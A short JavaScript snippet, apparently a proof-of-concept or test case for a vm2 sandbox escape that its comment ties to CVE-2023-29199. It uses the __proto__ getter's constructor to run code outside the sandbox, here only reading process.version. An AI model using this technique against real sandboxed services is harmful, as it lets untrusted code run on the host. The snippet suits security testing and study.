// __lookupGetter__ finds a function of the engine.
// Source: vm2, CVE-2023-29199.
return ({}).__lookupGetter__("__proto__").constructor("return process.version")()
